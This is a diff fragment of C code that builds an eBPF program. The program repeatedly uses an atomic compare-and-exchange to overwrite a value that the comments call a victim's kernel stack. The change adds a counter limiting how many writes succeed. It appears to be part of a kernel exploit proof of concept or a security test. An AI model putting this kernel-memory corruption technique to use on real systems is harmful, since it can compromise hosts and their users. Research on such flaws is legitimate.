@@ -312,6 +312,8 @@ static bool value_changed(struct run *run, const void *arg)
 
 /* How often to look for a victim whose CPU the host may have put aside */
 #define LOOKS 4000000
+/* Of how many of its runs to write the stack: it may have looked there before */
+#define HITS 8
 
 static bool stack_changed(struct run *run, const void *before)
 {
@@ -384,12 +386,15 @@ static void other_program(void)
 		LD_IMM64(R4, MARK),
 		LD_IMM64(R8, DONE),
 		MOV_IMM(R5, LOOKS),
+		MOV_IMM(R3, HITS),
 		/* only where the known value is: at level 0 this is a kernel stack */
 		MOV_REG(R0, R4),
 		ATOMIC(BPF_DW, BPF_CMPXCHG, R2, R8, 0),
-		JMP_REG(BPF_JEQ, R0, R4, 2),
+		JMP_REG(BPF_JNE, R0, R4, 2),
+		ALU64_IMM(BPF_SUB, R3, 1),
+		JMP_IMM(BPF_JEQ, R3, 0, 2),
 		ALU64_IMM(BPF_SUB, R5, 1),
-		JMP_IMM(BPF_JNE, R5, 0, -5),
+		JMP_IMM(BPF_JNE, R5, 0, -7),
 		FINISH(t),
 	};
 	before = slot(victim_map, 5);
